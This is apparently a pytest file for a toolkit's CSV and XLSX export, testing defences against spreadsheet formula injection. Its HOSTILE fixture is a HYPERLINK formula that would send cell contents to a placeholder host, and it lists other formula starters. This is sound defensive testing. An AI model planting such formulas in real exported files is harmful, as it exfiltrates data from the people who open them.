"""No live formula in any file the toolkit writes (issue #15): the one writer, toolkit._tabular.

Every CSV and XLSX the toolkit writes (``export``, ``table --to``, ``table`` on stdout)
goes through :func:`toolkit._tabular.write_table` or :func:`~toolkit._tabular.csv_text`;
these tests hold its promises: text a spreadsheet would run gets a leading quote (in
headers too), XLSX text cells are typed strings, numbers stay numbers, and export → import
gives back exactly the stored text, whatever quotes it starts with.
"""

from __future__ import annotations

import csv
import io
import os

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolkit._tabular import (
    FORMULA_START,
    csv_text,
    neutralise,
    unneutralise,
    write_table,
)
from toolkit.errors import DataValidationError
from toolkit.store import Engagement

HOSTILE = '=HYPERLINK("http://x.example/?d="&A1,"click")'

#: (stored text, what the export writes): the rule, case by case.
TRICKY = [
    ('="1+1"', '\'="1+1"'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-x", "'-x"),
    ("-3 apples", "'-3 apples"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'tis", "'tis"),  # a quote before ordinary text: left alone, both ways
    ("'90s", "'90s"),
    ("'=x", "''=x"),  # a quote before a starter: one more, so the import's strip restores it
    ("''=x", "'''=x"),
    ("'", "'"),
    ("''", "''"),
    ("plain", "plain"),
    ("a=b", "a=b"),
    (" =x", " =x"),  # a space first: no spreadsheet runs it
    ("", ""),
]


@pytest.mark.parametrize(("stored", "written"), TRICKY)
def test_each_tricky_text_is_neutralised_and_comes_back(stored, written):
    assert neutralise(stored) == written
    assert unneutralise(written) == stored
    assert not written.startswith(FORMULA_START)


@given(st.text(max_size=12) | st.from_regex(r"\A'*[=+\-@\t\r]", fullmatch=False))
def test_neutralise_never_leaves_a_formula_and_unneutralise_undoes_it(text):
    assert not neutralise(text).startswith(FORMULA_START)
    assert unneutralise(neutralise(text)) == text


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": [HOSTILE, "-3 apples", "Plain", None],
            "=HEADER(1)": ["@x", "'=x", "\tx", "ok"],
            "count": pd.array([-3, 0, 7, None], dtype="Int64"),
            "share": [-0.5, 1.25, float("nan"), 2.0],
        }
    )


def _assert_no_formula(path):
    """No cell is a formula; text a spreadsheet would run is a typed string Excel keeps as text."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return book


def test_xlsx_cells_are_typed_strings_headers_included_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(_frame(), path)
    sheet = _assert_no_formula(path).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    # The text exactly as stored: no quote added (Excel's quote prefix keeps it text).
    assert rows[0] == ["name", "=HEADER(1)", "count", "share"]
    assert rows[1] == [HOSTILE, "@x", -3, -0.5]
    assert rows[2] == ["-3 apples", "'=x", 0, 1.25]
    assert rows[3][:3] == ["Plain", "\tx", 7] and rows[3][3] is None
    assert rows[4] == [None, "ok", None, 2]
    kinds = {c.value: (c.data_type, c.quotePrefix) for row in sheet.iter_rows() for c in row}
    assert kinds[-3][0] == "n" and kinds[-0.5][0] == "n" and kinds[HOSTILE] == ("s", True)
    assert kinds["Plain"] == ("s", False)


def test_an_error_value_text_is_a_string_in_xlsx(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(pd.DataFrame({"a": ["#N/A", "#DIV/0!"]}), path)
    cells = list(openpyxl.load_workbook(path).active["A"])[1:]
    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("#DIV/0!", "s")]


def test_csv_cells_and_header_are_neutralised_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "t.csv"
    write_table(_frame(), path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert rows[0] == ["name", "'=HEADER(1)", "count", "share"]
    assert rows[1] == ["'" + HOSTILE, "'@x", "-3", "-0.5"]
    assert rows[2] == ["'-3 apples", "''=x", "0", "1.25"]
    assert rows[3] == ["Plain", "'\tx", "7", ""]
    assert csv_text(_frame()) == path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("where", "words"),
    [
        ("file.txt/x.csv", "file.txt is a file, not a folder"),
        ("folder.csv", "is a folder"),
        ("/proc/self/x.csv", "cannot write the file there"),
        ("/dev/null/x.xlsx", "(/dev/null is a file, not a folder)"),
        ("x.json", "give a name ending in one of them"),
    ],
)
def test_odd_paths_are_refused_with_a_clear_message(tmp_path, where, words):
    (tmp_path / "file.txt").write_text("x")
    (tmp_path / "folder.csv").mkdir()
    path = tmp_path / where
    with pytest.raises(DataValidationError) as err:
        write_table(_frame(), path)
    assert str(path) in str(err.value) and words in str(err.value)
    assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".partial")]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes in any folder")
def test_an_unwritable_folder_is_refused(tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    with pytest.raises(DataValidationError, match="permission denied"):
        write_table(_frame(), locked / "x.csv")


def test_text_an_xlsx_cell_cannot_hold_is_refused_naming_the_cell(tmp_path):
    with pytest.raises(DataValidationError) as err:
        write_table(pd.DataFrame({"note": ["ok", "bell\x07"]}), tmp_path / "t.xlsx")
    assert "t.xlsx: column 'note', row 3, holds a control character (U+0007)" in str(err.value)
    assert "Write a .csv file instead" in str(err.value) and not (tmp_path / "t.xlsx").exists()


# ----------------------------------------------------------------------------- export/import


ROUND_TRIP = [s for s, _ in TRICKY if s and s == s.strip()]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_import_gives_back_the_exact_text_and_header(tmp_path, suffix):
    eng = Engagement.init(tmp_path / "eng", starter_codebook=False)
    frame = pd.DataFrame(
        {
            "customer_id": [f"c{i}" for i in range(len(ROUND_TRIP))],
            "name": ROUND_TRIP,
            "kind": "internal",
            "power": [1 + i % 5 for i in range(len(ROUND_TRIP))],
            "balance": [-3 if i % 2 else 4 for i in range(len(ROUND_TRIP))],
            "=HEADER(1)": ROUND_TRIP,
        }
    )
    # A frame from Python is taken exactly as it is (only CSV-like files lose a quote).
    eng.import_frame(frame, table="customers")
    stored = eng.customers
    assert stored["name"].tolist() == ROUND_TRIP and "=HEADER(1)" in stored
    assert stored["=HEADER(1)"].tolist() == ROUND_TRIP
    out = tmp_path / f"customers{suffix}"
    eng.export("customers", out)
    if suffix == ".xlsx":
        header = [c.value for c in next(_assert_no_formula(out).active.iter_rows())]
        assert "=HEADER(1)" in header  # exact text, kept text by Excel's quote prefix
    else:
        text = out.read_text(encoding="utf-8")
        assert "'=HEADER(1)" in text and "\n=" not in text and ",=" not in text
        assert "\n@" not in text and ",+" not in text and ",-3" in text  # numbers unquoted
    fresh = Engagement.init(tmp_path / "fresh", starter_codebook=False)
    fresh.import_file(out, table="customers")
    pd.testing.assert_frame_equal(fresh.customers, stored)


def test_import_takes_one_quote_off_a_typed_quote_before_a_starter(tmp_path):
    """What a person's own file gives (the spreadsheet convention: '=x shows as =x)."""
    path = tmp_path / "c.csv"
    path.write_text(
        "customer_id,name,kind\na,'=x,internal\nb,''=x,internal\nc,'tis,internal\n",
        encoding="utf-8",
    )
    eng = Engagement.init(tmp_path / "eng", starter_codebook=False)
    eng.import_file(path, table="customers")
    assert eng.customers["name"].tolist() == ["=x", "'=x", "'tis"]


def test_an_xlsx_file_is_imported_exactly_as_its_cells_hold(tmp_path):
    """In XLSX a quote is part of the text (Excel keeps its own quote prefix out of the value)."""
    path = tmp_path / "c.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["customer_id", "name", "kind"])
    for row in (["a", "'=x", "internal"], ["b", "'tis", "internal"], ["c", "=x", "internal"]):
        book.active.append(row)
    book.active["B4"].data_type = "s"
    book.save(path)
    eng = Engagement.init(tmp_path / "eng", starter_codebook=False)
    eng.import_file(path, table="customers")
    assert eng.customers["name"].tolist() == ["'=x", "'tis", "=x"]


# ----------------------------------------------------------------------------- the CLI


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An engagement where a customer, a need and a touchpoint are formulas."""
    eng = Engagement.init(tmp_path_factory.mktemp("hostile") / "eng", starter_codebook=False)
    eng.import_frame(
        pd.DataFrame(
            {
                "customer_id": ["h", "r"],
                "name": [HOSTILE, "Residents"],
                "kind": ["external", "external"],
                "segment": ["Residents", "Residents"],
                "power": [4, 2],
                "interest": [5, 1],
            }
        ),
        table="customers",
    )
    eng.import_frame(
        pd.DataFrame(
            {
                "respondent_id": [f"p{i}" for i in range(6)],
                "segment": "Residents",
                "need": [HOSTILE] * 6,
                "collected_on": "2024-03-01",
            }
        ),
        table="stated_needs",
    )
    n = 24
    eng.import_frame(
        pd.DataFrame(
            {
                "response_id": [f"r{i}" for i in range(n)],
                "submitted_on": [f"2024-0{1 + i % 3}-10" for i in range(n)],
                "segment": "Residents",
                "touchpoint": [HOSTILE if i % 2 else "-desk" for i in range(n)],
                "metric": "csat",
                "score": [1 + i % 5 for i in range(n)],
            }
        ),
        table="responses",
    )
    return eng.path


@pytest.mark.parametrize(
    "args",
    [
        ["uncoded"],
        ["customer-kinds"],
        ["power-interest"],
        ["satisfaction-trend", "--by", "touchpoint"],
    ],
    ids=lambda a: a[0],
)
def test_table_writes_no_formula_to_xlsx_csv_or_stdout(run, hostile, tmp_path, args):
    shown = run("table", hostile, *args)
    assert shown.exit_code == 0, shown.output
    assert "'" + HOSTILE.replace('"', '""') in shown.stdout
    cells = [c for row in csv.reader(io.StringIO(shown.stdout)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert any(_is_number(c) for c in cells)
    xlsx, csv_path = tmp_path / "x.xlsx", tmp_path / "x.csv"
    assert run("table", hostile, *args, "--to", xlsx).exit_code == 0
    assert run("table", hostile, *args, "--to", csv_path).exit_code == 0
    assert csv_path.read_text(encoding="utf-8") == shown.stdout
    sheet = _assert_no_formula(xlsx).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert any(HOSTILE in str(v) for v in values)  # the exact text, kept text
    assert any(isinstance(v, int | float) and not isinstance(v, bool) for v in values)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("command", ["table", "export"])
@pytest.mark.parametrize("where", ["file.txt/x.csv", "/proc/self/x.csv", "/dev/null/x.csv"])
def test_odd_to_paths_are_a_clear_error(run, hostile, tmp_path, command, where):
    (tmp_path / "file.txt").write_text("x")
    to = tmp_path / where
    args = ["uncoded"] if command == "table" else ["--table", "customers"]
    result = run(command, hostile, *args, "--to", to)
    assert result.exit_code == 1
    assert f"{to}: cannot write the file there" in result.stderr


def test_categories_and_durations_are_neutralised_as_text():
    """Found by a second reading: only object and string columns were checked."""
    frame = pd.DataFrame(
        {
            "kind": pd.Categorical(["=1+1", "@SUM(A1)"]),
            "took": pd.to_timedelta(["-1 days", None]),
            "n": [-3, 4],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[1][0] == "'=1+1" and rows[2][0] == "'@SUM(A1)"
    assert rows[1][1].startswith("'-1 days") and rows[2][1] == ""
    assert [r[2] for r in rows[1:]] == ["-3", "4"]  # numbers stay numbers


def test_unneutralise_leaves_missing_cells_missing():
    from toolkit._tabular import unneutralise_cells

    assert unneutralise_cells(pd.Series(["'=x", None], dtype=object)).tolist() == ["=x", None]


def test_the_terminal_table_never_prints_control_characters():
    """Imported text with a terminal escape code is shown without the escape."""
    import pandas as pd

    from toolkit._tabular import aligned_text

    shown = aligned_text(pd.DataFrame({"label": ["red\x1b[31m alert\x07", "tab\there"]}))
    assert "\x1b" not in shown and "\x07" not in shown
    assert "tab here" in shown


def test_edge_is_space_reads_each_cells_first_and_last_character():
    """The byte-table reading of a cell's edges gives what ``str.isspace`` gives, for
    ASCII and wider characters, missing and empty cells, and a slice of an Arrow column."""
    import random

    import pyarrow as pa

    from toolkit._tabular import SPACES, edge_is_space
    from toolkit.sources.spreadsheet import _filled_arrow

    rng = random.Random(3)
    alphabet = ["a", "é", " ", "\t", "\u3000", "\x1c", "x", "\xa0", "€"]
    for _ in range(100):
        cells = [
            None
            if rng.random() < 0.1
            else "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 4)))
            for _ in range(40)
        ]
        column = pa.chunked_array([pa.array(cells, pa.large_string())[3:]])
        kept = cells[3:]
        assert edge_is_space(column).tolist() == [bool(v) and v[0] in SPACES for v in kept]
        assert edge_is_space(column, last=True).tolist() == [
            bool(v) and v[-1] in SPACES for v in kept
        ]
        filled = [v is not None and v.strip() != "" for v in cells]
        assert _filled_arrow(pd.Series(cells, dtype="str")).tolist() == filled
